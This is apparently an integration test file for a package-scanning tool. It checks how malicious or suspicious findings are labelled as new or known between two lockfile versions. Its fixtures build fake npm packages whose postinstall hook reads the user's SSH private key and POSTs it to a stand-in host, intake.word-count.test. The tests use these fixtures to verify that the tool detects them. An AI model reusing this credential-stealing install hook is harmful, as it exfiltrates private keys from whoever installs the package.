"""The real gate beside the version before the change: what is new and what is known, and no verdict changes by it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.integration.command_line import Machine, orphans_come_here, still_running
from tests.integration.gate_change import Change
from tests.locks import npm_lock, package, requirements
from tests.packages import build
from tests.packages.registry import Registry
from tests.packages.settled import javascript, python

pytestmark = [pytest.mark.native, pytest.mark.together]

COUNT = 'await fetch("https://metrics.word-count.test/installed");'
STEAL = """
    const keys = fs.readFileSync(`${os.homedir()}/.ssh/id_ed25519`, "utf8");
    await fetch("https://intake.word-count.test/k", { method: "POST", body: keys });
"""
DOES = {
    ("plain-panel", "1.0.0"): "", ("plain-panel", "1.1.0"): "",
    ("known-count", "1.0.0"): COUNT, ("known-count", "1.1.0"): COUNT,
    ("grown-thief", "1.0.0"): COUNT, ("grown-thief", "1.1.0"): COUNT + STEAL,
    ("old-thief", "1.0.0"): STEAL, ("old-thief", "1.1.0"): STEAL,
    ("lost-count", "1.1.0"): COUNT,
    ("moved-count", "1.0.0"): COUNT, ("moved-count", "1.1.0"): COUNT,
}  # fmt: skip
NAMES = sorted({name for name, _ in DOES})


class Gate(Change):
    """A change of all of them from the first version to the second."""

    def change(self) -> None:
        """Commit both lockfiles. The base pins a version that nobody has any more, and a digest that nobody has."""
        old: dict[str, Any] = {}
        for name in NAMES:
            if name == "lost-count":
                url = f"{self.registry.npm_url}{name}/-/{name}-0.9.0.tgz"
                old[name] = package("0.9.0", b"what it was", resolved=url)
            elif name == "moved-count":
                old[name] = package("1.0.0", b"another content", resolved=self.entry(name, "1.0.0")["resolved"])
            else:
                old[name] = self.entry(name, "1.0.0")
        self.repository.commit({"package-lock.json": npm_lock(old)})
        self.repository.commit({"package-lock.json": npm_lock({name: self.entry(name, "1.1.0") for name in NAMES})})


@pytest.fixture(scope="module")
def gate(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gate]:
    folder = tmp_path_factory.mktemp("packages")
    for (name, version), does in DOES.items():
        files = {"index.js": f"module.exports = '{version}'\n", **({"count.js": javascript(does)} if does else {})}
        scripts = {"scripts": {"postinstall": "node count.js"}} if does else {}
        build.npm(folder, name, files, version=version, **scripts)
    for version in ("1.0.0", "1.1.0"):
        meter = python("urllib.request.urlopen('https://metrics.word-count.test/loaded')", "urllib.request")
        build.wheel(folder, "word-meter", {"word_meter.py": f"{meter}\nversion = '{version}'\n"}, version=version)
    archives = {path.name: path for path in folder.iterdir()}
    machine = Machine(tmp_path_factory.mktemp("machine"))
    with orphans_come_here(), Registry(archives.values(), host="packages.test") as registry:
        machine.use(registry.npm_url, registry.pypi_url, registry.own_url)
        made = Gate(machine, registry, archives)
        made.change()
        yield made
        assert still_running() == []
        assert machine.left_behind() == []


@pytest.fixture(scope="module")
def first(gate: Gate) -> dict[str, dict[str, Any]]:
    """The packages of the first run's report, by name; it left one more report behind, as SARIF."""
    sarif = gate.machine.root / "report.sarif"
    _, packages = gate.report("--base", "HEAD~1", "--head", "HEAD", "--report", f"sarif={sarif}", code=11)
    return {target.removeprefix("npm:").partition("@")[0]: one for target, one in packages.items()}


def novelties(package: dict[str, Any]) -> dict[str, str]:
    return {finding["rule"]: finding["novelty"] for finding in package["findings"]}


def test_what_the_version_before_did_too_is_known_and_as_suspicious_as_ever(first: dict[str, dict[str, Any]]) -> None:
    one = first["known-count"]
    assert one["verdict"] == "suspicious"
    assert novelties(one) == {"unexpected_host": "known"}
    assert (one["previous"]["version"], one["previous"]["verdict"]) == ("1.0.0", "suspicious")
    assert (one["previous"]["problem"], one["previous"]["missing"], one["previous"]["new"]) == ("", [], [])


def test_a_theft_that_is_added_is_new_and_malicious_and_what_it_does_is_listed(
    first: dict[str, dict[str, Any]],
) -> None:
    one = first["grown-thief"]
    assert one["verdict"] == "malicious"
    assert novelties(one)["decoy_sent"] == "new"
    assert one["previous"]["verdict"] == "suspicious"
    new = "\n".join(one["previous"]["new"])
    assert "send ssh body intake.word-count.test, by grown-thief, in install" in new
    assert "read ~/.ssh/id_ed25519 [bait: ssh], by grown-thief, in install" in new
    assert "metrics.word-count.test" not in new


def test_a_theft_of_the_version_before_excuses_nothing(first: dict[str, dict[str, Any]]) -> None:
    one = first["old-thief"]
    assert one["verdict"] == "malicious"
    found = {finding["rule"]: finding for finding in one["findings"]}
    assert (found["decoy_sent"]["novelty"], found["decoy_sent"]["verdict"]) == ("known", "malicious")
    assert one["previous"]["verdict"] == "malicious"


@pytest.mark.parametrize(
    ("name", "version", "words"),
    [("lost-count", "0.9.0", "has no version 0.9.0"), ("moved-count", "1.0.0", "is not what the lockfile says")],
)
def test_where_nothing_can_be_compared_that_is_said_and_nothing_is_known(
    first: dict[str, dict[str, Any]], name: str, version: str, words: str
) -> None:
    one = first[name]
    assert one["verdict"] == "suspicious"
    assert novelties(one) == {"unexpected_host": ""}
    assert one["previous"]["version"] == version
    assert words in one["previous"]["problem"]


def test_a_clean_package_costs_nothing_more(gate: Gate, first: dict[str, dict[str, Any]]) -> None:
    assert (first["plain-panel"]["verdict"], first["plain-panel"]["previous"]) == ("clean", None)
    asked = [path.rpartition("/")[2] for path in gate.registry.asked]
    assert "plain-panel-1.1.0.tgz" in asked
    assert "known-count-1.0.0.tgz" in asked
    assert "plain-panel-1.0.0.tgz" not in asked


def test_code_scanning_is_told_and_nothing_malicious_is_called_unchanged(
    gate: Gate, first: dict[str, dict[str, Any]]
) -> None:
    (run,) = json.loads((gate.machine.root / "report.sarif").read_text())["runs"]
    states = {
        (one["properties"]["target"], one["ruleId"]): one.get("baselineState")
        for one in run["results"]
    }  # fmt: skip
    assert states["npm:known-count@1.1.0", "unexpected_host"] == "unchanged"
    assert states["npm:grown-thief@1.1.0", "decoy_sent"] == "new"
    assert states["npm:old-thief@1.1.0", "decoy_sent"] is None
    assert states["npm:lost-count@1.1.0", "unexpected_host"] is None


def test_again_from_the_store_nothing_is_run_and_the_same_is_told(
    gate: Gate, first: dict[str, dict[str, Any]], tmp_path: Path
) -> None:
    text = tmp_path / "report.txt"
    _, packages = gate.report("--base", "HEAD~1", "--head", "HEAD", "--report", f"terminal={text}", code=11)
    again = {target.removeprefix("npm:").partition("@")[0]: one for target, one in packages.items()}
    for name, one in again.items():
        assert one["stored"], name
        assert novelties(one) == novelties(first[name]), name
        before = one["previous"]
        assert before is None or before["problem"] or before["stored"], name
    words = " ".join(text.read_text().split())
    assert "known: the version before did the same, which excuses nothing" in words
    assert "not compared with 0.9.0, so nothing is called known: " in words


def test_of_pypi_too_with_the_recordings_of_both_kept_and_in_a_page(gate: Gate, tmp_path: Path) -> None:
    for version in ("1.0.0", "1.1.0"):
        wheel = gate.content(f"word_meter-{version}-py3-none-any.whl")
        gate.repository.commit({"requirements.txt": requirements({f"word-meter=={version}": wheel})})
    kept, page = tmp_path / "kept", tmp_path / "page.html"
    arguments = ("--base", "HEAD~1", "--head", "HEAD", "requirements.txt")
    _, packages = gate.report(*arguments, "--report", f"html={page}", "--keep", str(kept), code=10)
    one = packages["pypi:word-meter==1.1.0"]
    assert set(novelties(one).values()) == {"known"}
    assert (one["previous"]["purl"], one["previous"]["verdict"]) == ("pkg:pypi/word-meter@1.0.0", "suspicious")
    assert [path.name for path in (kept / "previous").iterdir()] == ["pypi-word-meter-1.0.0-laptop.jsonl"]
    assert "known: the version before did the same" in page.read_text()
    _, packages = gate.report(*arguments, "--report", f"html={page}", code=10)  # of recordings that nobody keeps
    assert packages["pypi:word-meter==1.1.0"]["previous"]["stored"]
    assert "known: the version before did the same" in page.read_text()
    assert "The recording" not in page.read_text().partition("<script>")[0]  # none that could not be read


def test_a_version_that_the_registry_has_lost_is_known_from_the_store(
    gate: Gate, first: dict[str, dict[str, Any]], tmp_path: Path
) -> None:
    for version in ("1.0.0", "1.1.0"):
        gate.repository.commit({"package-lock.json": npm_lock({"known-count": gate.entry("known-count", version)})})
    left = [path for name, path in gate.archives.items() if name != "known-count-1.0.0.tgz"]
    with Registry(left, host="packages.test") as registry:
        gate.machine.use(registry.npm_url, registry.pypi_url, registry.own_url)
        cache = str(tmp_path / "cache")
        _, packages = gate.report("--base", "HEAD~1", "--head", "HEAD", "--cache", cache, code=10)
    one = packages["npm:known-count@1.1.0"]
    assert novelties(one) == {"unexpected_host": "known"}
    assert one["previous"]["stored"]
    assert one["previous"]["digest"] == first["known-count"]["previous"]["digest"]
